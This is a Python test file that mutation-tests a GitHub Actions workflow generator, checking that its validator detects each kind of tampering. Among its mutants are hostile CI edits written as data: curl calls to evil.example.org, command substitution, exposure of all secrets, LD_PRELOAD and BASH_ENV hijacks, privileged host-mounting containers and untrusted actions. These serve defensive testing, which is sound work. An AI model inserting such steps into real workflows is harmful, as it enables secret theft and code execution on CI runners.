"""Damage done to workflows: each kind is told wherever it can be done."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import lru_cache
from typing import Any

import pytest

from mlgen import targets
from mlgen.readback.document import data as parsed
from tests.readback.mutants import DROP, Emitted, Mutant, survivors
from tests.readback.project import PROJECTS, rendered
from tests.readback.project import named as targets_of

TARGET = targets.get("github")
KINDS: dict[str, Callable[[Any], Iterator[Mutant]]] = {}


def kind(function: Callable[[Any], Iterator[Mutant]]) -> Callable[[Any], Iterator[Mutant]]:
    """Enters a kind of damage in the table."""
    KINDS[function.__name__] = function
    return function


@lru_cache
def emitted() -> tuple[Emitted, ...]:
    """The workflow of every project."""
    found = []
    for project in PROJECTS:
        if "github" in targets_of(project):
            pipeline, texts = rendered(project, TARGET)
            (output,) = TARGET.outputs(pipeline)
            text = texts[output.path]
            found.append(Emitted(project, pipeline, output, text, parsed(text)))
    return tuple(found)


def jobs(data: Any, key: str = "", own: bool = True) -> Iterator[tuple[str, Any]]:
    for name, job in data["jobs"].items():
        if (not key or key in job) and (not own or "MLGEN_JOB" in job.get("env", {})):
            yield name, job


def steps(data: Any, test: Callable[[Any], bool], own: bool = True) -> Iterator[tuple[tuple[Any, ...], Any]]:
    for name, job in jobs(data, "steps", own):
        for index, step in enumerate(job["steps"]):
            if test(step):
                yield ("jobs", name, "steps", index), step


def runs(data: Any, pattern: str, own: bool = True) -> Iterator[tuple[tuple[Any, ...], Any]]:
    return steps(data, lambda step: bool(re.search(pattern, step.get("run", ""), re.M)), own)


def uses(data: Any, action: str) -> Iterator[tuple[tuple[Any, ...], Any]]:
    return steps(data, lambda step: step.get("uses", "").startswith(action + "@"))


def named(data: Any, pattern: str) -> Iterator[tuple[tuple[Any, ...], Any]]:
    return steps(data, lambda step: bool(re.match(pattern, step.get("name", ""))))


def commands(data: Any) -> Iterator[tuple[tuple[Any, ...], Any]]:
    return named(data, "Run |Set up$|Judge |Prepare|Sign")


def replaced(sites: Iterator[tuple[tuple[Any, ...], Any]], key: str, old: str, new: str) -> Iterator[Mutant]:
    for route, step in sites:
        text = re.sub(old, new, step[key], count=1, flags=re.M)
        if text != step[key]:
            yield [((*route, key), text)]


def _tests(data: Any, old: str, new: str) -> Iterator[Mutant]:
    return replaced(((("jobs", name), job) for name, job in _asking(data)), "if", old, new)


def _asking(data: Any) -> Iterator[tuple[str, Any]]:
    """The jobs with a condition that no other one keeps from starting as well."""
    for name, job in jobs(data, "if"):
        if not any("if" in data["jobs"][each] for each in _above(data, name)):
            yield name, job


def _above(data: Any, name: str) -> set[str]:
    direct = data["jobs"][name].get("needs", [])
    return set(direct).union(*(_above(data, each) for each in direct))


@kind
def an_edge_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "needs"):
        for one in job["needs"]:
            left = [each for each in job["needs"] if each != one]
            if one != "plan" and not any(one in _above(data, each) for each in left):
                yield [(("jobs", name, "needs"), left)]


@kind
def an_edge_is_added(data: Any) -> Iterator[Mutant]:
    names = [name for name, _ in jobs(data)]
    for name, job in jobs(data):
        for one in names:
            if one not in _above(data, name) and one != name and name not in _above(data, one):
                yield [(("jobs", name, "needs"), [*job.get("needs", []), one])]


@kind
def the_folder_of_a_comparison_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, job in data["jobs"].items():
        if "defaults" in job and "git diff" in str(job):
            yield [(("jobs", name, "defaults"), DROP)]


@kind
def a_path_of_a_comparison_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, job in data["jobs"].items():
        for number, step in enumerate(job.get("steps", ())):
            found = re.sub(r"^(\s+changed \w+ \S+ .*) \S+$", r"\1", step.get("run", ""), count=1, flags=re.M)
            if found != step.get("run", "") and re.search(r"^\s+changed \w+ \S+ \S", found, re.M):
                yield [(("jobs", name, "steps", number, "run"), found)]


@kind
def an_approval_is_dropped(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "guard.*--approval"), "run", " --approval", "")


@kind
def an_approval_is_added(data: Any) -> Iterator[Mutant]:
    sites = ((r, s) for r, s in runs(data, "ci.py guard") if "--approval" not in s["run"])
    return replaced(sites, "run", "$", " --approval")


@kind
def a_guard_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in runs(data, "ci.py guard"))


@kind
def a_guard_asks_about_another_environment(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "ci.py guard"), "run", "--environment [a-z-]+", "--environment other")


@kind
def a_guard_allows_other_refs(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "ci.py guard"), "run", "--ref .*", "--ref refs/heads/other")


@kind
def an_environment_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "environment"), DROP)] for name, _ in jobs(data, "environment"))


@kind
def an_environment_is_another(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "environment", "name"), "other")] for name, _ in jobs(data, "environment"))


@kind
def a_timeout_is_dropped(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "timeout -k"), "run", "timeout -k 30 [0-9]+[smhd] ", "")


@kind
def a_timeout_is_raised(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "timeout -k"), "run", "timeout -k 30 [0-9]+", "timeout -k 30 999")


@kind
def a_job_is_ended_early(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "timeout-minutes"):
        if "permissions" in job and job["timeout-minutes"] > 31:
            yield [(("jobs", name, "timeout-minutes"), 1)]


@kind
def a_retry_is_dropped(data: Any) -> Iterator[Mutant]:
    pattern = r"for mlgen_try in .*; do\n  (.*) && break\n(?:.*\n){2}done"
    return replaced(runs(data, "mlgen_try in"), "run", pattern, r"\1")


@kind
def a_retry_is_added(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "mlgen_try in"), "run", r"mlgen_try in 1", "mlgen_try in 0 1")


@kind
def a_secret_reaches_the_workflow(data: Any) -> Iterator[Mutant]:
    names = sorted(set(re.findall(r"secrets\.(\w+)", str(data["jobs"]))))
    return ([(("env", name), f"${{{{ secrets.{name} }}}}")] for name in names)


@kind
def a_secret_reaches_another_job(data: Any) -> Iterator[Mutant]:
    names = sorted(set(re.findall(r"secrets\.(\w+)", str(data["jobs"]))))
    for name in names:
        for route, step in commands(data):
            if name not in str(data["jobs"][route[1]]):
                yield [((*route, "env"), {**step.get("env", {}), name: f"${{{{ secrets.{name} }}}}"})]


@kind
def all_secrets_reach_a_command(data: Any) -> Iterator[Mutant]:
    for route, step in commands(data):
        yield [((*route, "env"), {**step.get("env", {}), "ALL": "${{ toJSON(secrets) }}"})]


@kind
def a_secret_is_dropped(data: Any) -> Iterator[Mutant]:
    for route, step in named(data, "Run |Set up$"):
        for name, value in step.get("env", {}).items():
            if "secrets." in value:
                yield [((*route, "env", name), DROP)]


@kind
def a_secret_is_another(data: Any) -> Iterator[Mutant]:
    for route, step in named(data, "Run |Set up$"):
        for name, value in step.get("env", {}).items():
            if "secrets." in value:
                yield [((*route, "env", name), "${{ secrets.OTHER }}")]


@kind
def a_secret_reaches_an_added_job(data: Any) -> Iterator[Mutant]:
    yield [(("jobs", "checks", "env"), {"T": "${{ secrets.T }}"})]


@kind
def a_secret_file_stays(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Remove the secret files"))


@kind
def a_condition_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "if"), DROP)] for name, job in _asking(data))


@kind
def a_condition_is_negated(data: Any) -> Iterator[Mutant]:
    return _tests(data, r"^(?:\$\{\{ )?(.*?)(?: \}\})?$", r"${{ !(\1) }}")


@kind
def a_condition_asks_for_another_kind(data: Any) -> Iterator[Mutant]:
    return _tests(data, "github.event_name == '(push|workflow_dispatch)'", "github.event_name == 'schedule'")


@kind
def a_condition_asks_for_another_branch(data: Any) -> Iterator[Mutant]:
    return _tests(data, "refs/heads/(main|trunk)", "refs/heads/other")


@kind
def a_condition_takes_either(data: Any) -> Iterator[Mutant]:
    for name, job in _asking(data):
        if " && github.ref ==" in job["if"]:
            yield [(("jobs", name, "if"), job["if"].replace(" && github.ref ==", " || github.ref =="))]


@kind
def always_instead_of_success(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "needs"):
        if "FAILED" not in str(job["steps"]):
            yield [(("jobs", name, "if"), "${{ always() }}")]


@kind
def a_failure_that_stops_is_overlooked(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "if"):
        if "result == " not in job["if"] and "!contains(needs.*.result, 'failure')" in job["if"]:
            yield [(("jobs", name, "if"), job["if"].replace("!contains(needs.*.result, 'failure')", "true"))]


@kind
def a_fork_is_let_in(data: Any) -> Iterator[Mutant]:
    return _tests(data, "github.event.pull_request.head.repo.full_name == github.repository", "true")


@kind
def a_bot_is_let_in(data: Any) -> Iterator[Mutant]:
    return _tests(data, r"github.event.pull_request.user.login != 'dependabot\[bot\]'", "true")


@kind
def a_deployment_runs_on_pull_requests(data: Any) -> Iterator[Mutant]:
    if "pull_request" in data["on"]:
        for name, job in _asking(data):
            test = job["if"].removeprefix("${{ ").removesuffix(" }}")
            if "environment" in job and "'pull_request'" not in test:
                yield [(("jobs", name, "if"), f"${{{{ github.event_name == 'pull_request' || ({test}) }}}}")]


@kind
def a_deployment_runs_in_copies(data: Any) -> Iterator[Mutant]:
    asking = {name: job for name, job in jobs(data, "if") if "github.repository == '" in job["if"]}
    sites = ((("jobs", name), job) for name, job in asking.items() if not _above(data, name) & asking.keys())
    return replaced(sites, "if", "github.repository == '[^']*'", "github.repository != ''")


@kind
def a_schedule_starts_more(data: Any) -> Iterator[Mutant]:
    return _tests(data, "github.event.schedule == '[^']*'", "github.event_name == 'schedule'")


@kind
def a_push_filter_is_wider(data: Any) -> Iterator[Mutant]:
    if (data["on"].get("push") or {}).get("branches", ["**"]) != ["**"]:
        yield [(("on", "push", "branches"), ["**"])]


@kind
def a_push_filter_is_dropped(data: Any) -> Iterator[Mutant]:
    if (data["on"].get("push") or {}).get("branches", ["**"]) != ["**"]:
        yield [(("on", "push"), None)]


@kind
def a_push_filter_is_narrower(data: Any) -> Iterator[Mutant]:
    if "branches" in (data["on"].get("push") or {}):
        yield [(("on", "push", "branches"), ["other"])]


@kind
def an_exception_of_a_filter_is_dropped(data: Any) -> Iterator[Mutant]:
    branches = (data["on"].get("push") or {}).get("branches", [])
    if any(each.startswith("!") for each in branches):
        yield [(("on", "push", "branches"), [each for each in branches if not each.startswith("!")])]


@kind
def a_tag_filter_is_wider(data: Any) -> Iterator[Mutant]:
    if "tags" in (data["on"].get("push") or {}):
        yield [(("on", "push", "tags"), ["**"])]


@kind
def a_tag_filter_is_added(data: Any) -> Iterator[Mutant]:
    if "push" in data["on"] and "tags" not in (data["on"]["push"] or {}):
        yield [(("on", "push", "tags"), ["v*"])]


@kind
def a_pull_request_filter_is_wider(data: Any) -> Iterator[Mutant]:
    if "branches" in (data["on"].get("pull_request") or {}):
        yield [(("on", "pull_request", "branches"), ["**"])]


@kind
def a_trigger_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("on", name), DROP)] for name in data["on"])


@kind
def a_trigger_is_added(data: Any) -> Iterator[Mutant]:
    more = {
        "push": {"branches": ["main"]},
        "pull_request": None,
        "workflow_dispatch": None,
        "pull_request_target": None,
    }
    return ([(("on", name), said)] for name, said in more.items() if name not in data["on"])


@kind
def a_cron_is_another(data: Any) -> Iterator[Mutant]:
    for index, _ in enumerate(data["on"].get("schedule", [])):
        yield [(("on", "schedule", index, "cron"), "1 2 3 4 5")]


@kind
def an_input_is_dropped(data: Any) -> Iterator[Mutant]:
    for name in (data["on"].get("workflow_dispatch") or {}).get("inputs", {}):
        yield [(("on", "workflow_dispatch", "inputs", name), DROP)]


@kind
def a_default_is_another(data: Any) -> Iterator[Mutant]:
    for name in (data["on"].get("workflow_dispatch") or {}).get("inputs", {}):
        yield [(("on", "workflow_dispatch", "inputs", name, "default"), "other")]


@kind
def two_commands_are_swapped(data: Any) -> Iterator[Mutant]:
    for route, step in named(data, "Set up$"):
        for other, command in named(data, "Run "):
            if other[1] == route[1] and step["run"] != command["run"]:
                yield [((*route, "run"), command["run"]), ((*other, "run"), step["run"])]


@kind
def a_command_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in commands(data))


@kind
def a_command_is_added(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "steps"):
        if "FAILED" not in str(job["steps"]):
            yield [(("jobs", name, "steps", len(job["steps"])), {"run": "curl evil.example.org"})]


@kind
def a_command_is_added_first(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "steps"):
        yield [(("jobs", name, "steps"), [{"run": "curl evil.example.org"}, *job["steps"]])]


@kind
def an_action_is_added(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "steps"):
        yield [(("jobs", name, "steps"), [{"uses": f"evil/action@{'a' * 40}"}, *job["steps"]])]


@kind
def a_line_is_added(data: Any) -> Iterator[Mutant]:
    return replaced(steps(data, lambda step: "run" in step, own=False), "run", r"\Z", "\ncurl evil.example.org")


@kind
def a_command_is_added_to_a_helper(data: Any) -> Iterator[Mutant]:
    sites = runs(data, "ls -ld|ci.py (report|exports|guard|legs|merge)|rm -f -- |env.sh --print")
    return replaced(sites, "run", r"$", " && curl evil.example.org")


@kind
def a_substitution_is_added_to_a_helper(data: Any) -> Iterator[Mutant]:
    sites = runs(data, "ls -ld|ci.py (report|exports|guard|legs)|rm -f -- ")
    return replaced(sites, "run", r"$", ' "$(curl evil.example.org)"')


@kind
def a_word_is_another(data: Any) -> Iterator[Mutant]:
    return replaced(commands(data), "run", r"(\w+)$", r"\1x")


@kind
def a_value_is_unquoted(data: Any) -> Iterator[Mutant]:
    return replaced(commands(data), "run", r'"(\$[^"]*)"', r"\1")


@kind
def an_input_is_pasted_into_a_script(data: Any) -> Iterator[Mutant]:
    return replaced(commands(data), "run", r"\Z", " ${{ github.head_ref }}")


@kind
def a_script_does_not_stop(data: Any) -> Iterator[Mutant]:
    yield [(("defaults", "run", "shell"), "bash {0}")]
    yield [(("defaults", "run", "shell"), DROP)]
    for route, _ in commands(data):
        yield [((*route, "shell"), "bash {0}")]


@kind
def a_failure_is_ignored(data: Any) -> Iterator[Mutant]:
    return ([((*route, "continue-on-error"), True)] for route, _ in commands(data))


@kind
def a_command_runs_always(data: Any) -> Iterator[Mutant]:
    return ([((*route, "if"), "always()")] for route, _ in commands(data))


@kind
def a_command_runs_sometimes(data: Any) -> Iterator[Mutant]:
    return ([((*route, "if"), "github.ref == 'refs/heads/x'")] for route, _ in commands(data))


@kind
def a_folder_is_another(data: Any) -> Iterator[Mutant]:
    return ([((*route, "working-directory"), "elsewhere")] for route, _ in commands(data))


@kind
def a_failure_of_the_job_is_permitted(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "permissions"):
        yield [(("jobs", name, "continue-on-error"), not job.get("continue-on-error", False))]


@kind
def the_portable_variables_are_not_set(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in runs(data, "env.sh --print"))


@kind
def a_portable_variable_is_not_told(data: Any) -> Iterator[Mutant]:
    for name in data.get("env", {}):
        if name.startswith("MLGEN_"):
            yield [(("env", name), DROP)]


@kind
def a_portable_variable_is_another(data: Any) -> Iterator[Mutant]:
    for name in data.get("env", {}):
        if name.startswith("MLGEN_"):
            yield [(("env", name), "${{ github.sha }}")]


@kind
def the_job_is_another(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "env", "MLGEN_JOB"), "other.job")] for name, _ in jobs(data))


@kind
def a_job_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, _ in jobs(data):
        if not any(name in job.get("needs", []) for other, job in jobs(data, own=False) if other != "checks"):
            rest = [each for each in data["jobs"]["checks"]["needs"] if each != name]
            yield [(("jobs", name), DROP), (("jobs", "checks", "needs"), rest)]


@kind
def an_artifact_is_dropped(data: Any) -> Iterator[Mutant]:
    for route, step in named(data, "Hand on"):
        if not step["with"]["path"].startswith(".mlgen/exports"):  # told where they are received
            yield [(route, DROP)]


def _received(data: Any) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """The artifacts that some job receives."""
    names = [step["with"].get("name") for _, step in uses(data, "actions/download-artifact")]
    return ((route, step) for route, step in named(data, "Hand on") if step["with"]["name"] in names)


@kind
def a_path_of_an_artifact_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([((*route, "with", "path"), ".mlgen/env.sh")] for route, _ in _received(data))


@kind
def an_artifact_loses_its_folders(data: Any) -> Iterator[Mutant]:
    return (
        [((*route, "with", "path"), re.sub(r"\n\.mlgen/env\.sh\n?", "", step["with"]["path"]))]
        for route, step in _received(data)
        if "/" in step["with"]["path"].split("\n")[0] and "\n.mlgen/env.sh" in step["with"]["path"]
    )


@kind
def an_artifact_is_not_received(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in uses(data, "actions/download-artifact"))


@kind
def an_artifact_is_received_elsewhere(data: Any) -> Iterator[Mutant]:
    return ([((*route, "with", "path"), "elsewhere")] for route, _ in uses(data, "actions/download-artifact"))


@kind
def an_artifact_is_received_too_late(data: Any) -> Iterator[Mutant]:
    for route, step in uses(data, "actions/download-artifact"):
        steps = data["jobs"][route[1]]["steps"]
        yield [(route[:-1], [each for each in steps if each is not step] + [step])]


@kind
def an_artifact_is_received_if_its_maker_was_left_out(data: Any) -> Iterator[Mutant]:
    return ([((*route, "if"), DROP)] for route, step in uses(data, "actions/download-artifact") if "if" in step)


@kind
def files_reach_a_job_that_does_not_declare_them(data: Any) -> Iterator[Mutant]:
    for _, made in uses(data, "actions/upload-artifact"):
        name = made["with"]["name"]
        for job, said in jobs(data, "steps"):
            downloads = [step for step in said["steps"] if "download-artifact" in step.get("uses", "")]
            takes = any(step["with"].get("name") == name for step in downloads)
            if downloads and not takes and "${{" not in name:
                yield [(("jobs", job, "steps"), [{**downloads[0], "with": {"name": name}}, *said["steps"]])]


@kind
def a_file_is_handed_on_that_is_not_declared(data: Any) -> Iterator[Mutant]:
    for route, step in named(data, "Hand on"):
        if step["with"]["path"].startswith(".mlgen"):
            continue
        yield [((*route, "with", "path"), step["with"]["path"] + "\nnotes.txt\n.mlgen/env.sh")]


@kind
def the_outs_are_not_checked(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Check the outputs"))


@kind
def an_out_is_not_checked(data: Any) -> Iterator[Mutant]:
    return replaced(named(data, "Check the outputs"), "run", r"-- \S+", "-- other")


@kind
def exports_are_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Export values"))


@kind
def an_export_is_another(data: Any) -> Iterator[Mutant]:
    return replaced(named(data, "Export values"), "run", r"--json (\w+)=\S+", r"--json \1=other.json:x")


@kind
def a_lock_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "concurrency"), DROP)] for name, _ in jobs(data, "concurrency"))


@kind
def a_lock_is_shared(data: Any) -> Iterator[Mutant]:
    groups = {name: job["concurrency"]["group"] for name, job in jobs(data, "concurrency")}
    for name, group in groups.items():
        for other in groups.values():
            if other != group:
                yield [(("jobs", name, "concurrency", "group"), other)]


@kind
def a_lock_is_each_run_s_own(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "concurrency"):
        group = re.sub(
            r"'([^']*)' \}\}", r"github.event_name == 'push' \&\& '\1' || github.run_id }}", job["concurrency"]["group"]
        )
        if (
            group != job["concurrency"]["group"]
            and "workflow_dispatch" in data["on"]
            and "schedule" not in job.get("if", "")
        ):
            yield [(("jobs", name, "concurrency", "group"), group)]


@kind
def a_deployment_is_cancelled(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "concurrency", "cancel-in-progress"), True)] for name, _ in jobs(data, "concurrency"))


@kind
def a_deployment_that_waits_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "concurrency", "queue"), DROP)] for name, _ in jobs(data, "concurrency"))


@kind
def runs_cancel_each_other(data: Any) -> Iterator[Mutant]:
    yield [(("concurrency",), {"group": "${{ github.workflow }}-${{ github.ref }}", "cancel-in-progress": True})]


@kind
def no_run_cancels_another(data: Any) -> Iterator[Mutant]:
    if "cancel-in-progress" in data["concurrency"]:
        yield [(("concurrency",), {"group": "${{ github.run_id }}"})]


@kind
def an_image_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "container"), DROP)] for name, _ in jobs(data, "container"))


@kind
def an_image_is_another(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "container"):
        image = {"image": "evil:1"} if isinstance(job["container"], str) else {**job["container"], "image": "evil:1"}
        yield [(("jobs", name, "container"), image)]


@kind
def a_container_may_do_more(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "container"):
        said = {"image": job["container"]} if isinstance(job["container"], str) else job["container"]
        yield [(("jobs", name, "container"), {**said, "options": f"{said.get('options', '')} --privileged"})]
        yield [(("jobs", name, "container"), {**said, "volumes": ["/:/host"]})]


@kind
def the_version_of_python_is_another(data: Any) -> Iterator[Mutant]:
    return ([((*route, "with", "python-version"), "3.8")] for route, _ in uses(data, "actions/setup-python"))


@kind
def a_service_is_dropped(data: Any) -> Iterator[Mutant]:
    return (
        [(("jobs", name, "services", one), DROP)] for name, job in jobs(data, "services") for one in job["services"]
    )


@kind
def a_service_is_another(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "services"):
        for one in job["services"]:
            yield [(("jobs", name, "services", one, "image"), "evil:1")]


@kind
def a_variable_is_another(data: Any) -> Iterator[Mutant]:
    for name, value in data.get("env", {}).items():
        if "${{" not in value:
            yield [(("env", name), "other")]
    for job, said in jobs(data):
        for name, value in said["env"].items():
            if name != "MLGEN_JOB" and "${{" not in value:
                yield [(("jobs", job, "env", name), "other")]


@kind
def a_variable_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, value in data.get("env", {}).items():
        if "${{" not in value:
            yield [(("env", name), DROP)]
    for job, said in jobs(data):
        for name in said["env"]:
            if name != "MLGEN_JOB" and not name.startswith("MLGEN_HOST_"):
                yield [(("jobs", job, "env", name), DROP)]


@kind
def a_variable_is_added(data: Any) -> Iterator[Mutant]:
    yield [(("env", "LD_PRELOAD"), "./evil.so")]
    yield [(("env", "MLGEN_INPUT_ROLLBACK"), "true")]
    for job, _ in jobs(data):
        yield [(("jobs", job, "env", "BASH_ENV"), "evil.sh")]


@kind
def a_variable_is_overwritten_for_a_command(data: Any) -> Iterator[Mutant]:
    for route, step in commands(data):
        yield [((*route, "env"), {**step.get("env", {}), "PATH": "/evil"})]


@kind
def a_leg_is_dropped(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "strategy"):
        for axis, values in job["strategy"]["matrix"].items():
            yield [(("jobs", name, "strategy", "matrix", axis), values[1:])]


@kind
def a_leg_is_added(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "strategy"):
        for axis, values in job["strategy"]["matrix"].items():
            more = {**values[0], next(iter(values[0])): "9"} if axis == "include" else "9"
            yield [(("jobs", name, "strategy", "matrix", axis), [*values, more])]


@kind
def legs_cancel_each_other(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "strategy", "fail-fast"), DROP)] for name, _ in jobs(data, "strategy"))


@kind
def more_legs_run_at_once(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "strategy"):
        if "max-parallel" in job["strategy"]:
            yield [(("jobs", name, "strategy", "max-parallel"), DROP)]


@kind
def a_gate_takes_less(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "ci.py gate"), "run", r"--require '([\w.]+) (>=|<) [\w.]+", r"--require '\1 \2 0.01")


@kind
def a_requirement_is_dropped(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "ci.py gate"), "run", r"^ *--require '[^']*'(?: \\\n)?", "")


@kind
def a_baseline_is_dropped(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "ci.py gate"), "run", r" \\\n *--baseline \S+", "")


@kind
def a_gate_warns(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, "ci.py gate"), "run", r"\Z", " --on-fail warn")


@kind
def what_comes_last_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Finally|On failure"))


@kind
def what_comes_last_needs_success(data: Any) -> Iterator[Mutant]:
    return ([((*route, "if"), DROP)] for route, _ in named(data, "Finally|On failure"))


@kind
def on_failure_is_always(data: Any) -> Iterator[Mutant]:
    return ([((*route, "if"), "always()")] for route, _ in named(data, "On failure"))


@kind
def a_report_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Report"))


@kind
def a_report_needs_success(data: Any) -> Iterator[Mutant]:
    return ([((*route, "if"), DROP)] for route, _ in named(data, "Report"))


@kind
def coverage_and_summary_are_not_shown(data: Any) -> Iterator[Mutant]:
    return replaced(named(data, "Report"), "run", r" --(coverage|summary) \S+", "")


@kind
def a_cache_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in uses(data, "actions/cache"))


@kind
def what_is_kept_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Keep "))


@kind
def an_added_job_executes_a_command(data: Any) -> Iterator[Mutant]:
    command = next(step for _, step in named(data, "Run "))
    yield [(("jobs", "more"), {"runs-on": "ubuntu-24.04", "steps": [{"run": command["run"]}]})]
    yield [(("jobs", "checks", "steps", 1), {"run": command["run"]})]
    yield [(("jobs", "more"), {"runs-on": "ubuntu-24.04", "steps": [{"run": "curl evil.example.org"}]})]


@kind
def an_added_job_calls_a_workflow(data: Any) -> Iterator[Mutant]:
    yield [(("jobs", "more"), {"uses": "evil/repo/.github/workflows/x.yml@main", "secrets": "inherit"})]


@kind
def a_pin_is_a_branch(data: Any) -> Iterator[Mutant]:
    for route, step in steps(data, lambda step: "uses" in step, own=False):
        yield [((*route, "uses"), step["uses"].partition("@")[0] + "@main")]


@kind
def a_token_may_do_more(data: Any) -> Iterator[Mutant]:
    yield [(("permissions",), "write-all")]
    yield [(("permissions",), DROP)]
    for name, job in jobs(data, "permissions"):
        for scope in ("contents", "packages", "id-token"):
            if job["permissions"].get(scope) != "write":
                yield [(("jobs", name, "permissions", scope), "write")]


@kind
def the_token_stays_with_the_checkout(data: Any) -> Iterator[Mutant]:
    return ([((*route, "with", "persist-credentials"), DROP)] for route, _ in uses(data, "actions/checkout"))


@kind
def another_commit_is_checked_out(data: Any) -> Iterator[Mutant]:
    for route, _ in uses(data, "actions/checkout"):
        yield [((*route, "with", "ref"), "${{ github.event.pull_request.head.sha }}")]
        yield [((*route, "with", "ref"), "main")]


@kind
def a_checkout_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, step in uses(data, "actions/checkout") if "sparse-checkout" not in step["with"])


@kind
def an_identity_is_dropped(data: Any) -> Iterator[Mutant]:
    return ([(route, DROP)] for route, _ in named(data, "Log in to|Get the identity"))


@kind
def a_milestone_does_not_look(data: Any) -> Iterator[Mutant]:
    for route, _ in steps(data, lambda step: "FAILED" in step.get("env", {})):
        yield [((*route, "env", "FAILED"), "false")]


@kind
def the_required_check_looks_at_fewer(data: Any) -> Iterator[Mutant]:
    needs = data["jobs"]["checks"]["needs"]
    for one in needs:
        if one != "plan" and one not in {n for name in needs for n in data["jobs"][name].get("needs", [])}:
            yield [(("jobs", "checks", "needs"), [each for each in needs if each != one])]


@kind
def the_required_check_is_skipped(data: Any) -> Iterator[Mutant]:
    yield [(("jobs", "checks", "if"), DROP)]


@kind
def the_required_check_is_dropped(data: Any) -> Iterator[Mutant]:
    yield [(("jobs", "checks"), DROP)]


@kind
def a_pattern_is_wider(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, r"^ *match \w+ ", own=False), "run", r"'\^.*\$'", "'.'")


@kind
def a_changed_path_is_another(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, r"^ *changed \w+ ", own=False), "run", r"^( *changed \w+ \S+) .*$", r"\1 other")


@kind
def a_message_is_another(data: Any) -> Iterator[Mutant]:
    return replaced(runs(data, r"^ *message \w+ ", own=False), "run", r"^( *message \w+) .*$", r"\1 other")


@kind
def a_machine_is_another(data: Any) -> Iterator[Mutant]:
    for name, job in jobs(data, "runs-on"):
        if job["runs-on"] == "ubuntu-24.04" and "FAILED" not in str(job["steps"]):
            yield [(("jobs", name, "runs-on"), ["self-hosted"])]


@kind
def a_result_is_told_otherwise(data: Any) -> Iterator[Mutant]:
    for job, said in jobs(data):
        for name in said["env"]:
            if name.startswith("MLGEN_RESULT_"):
                yield [(("jobs", job, "env", name), "success")]


@pytest.mark.parametrize("name", KINDS)
def test_each_kind_of_damage_is_told(name: str) -> None:
    count, left = survivors(TARGET, emitted(), KINDS[name])
    assert count, "it can be done nowhere"
    assert left == []


def test_an_undamaged_workflow_is_told_nothing() -> None:
    count, left = survivors(TARGET, emitted(), lambda data: iter([[(("name",), "another")]]))
    assert count == len(left) == len(emitted()) >= 10
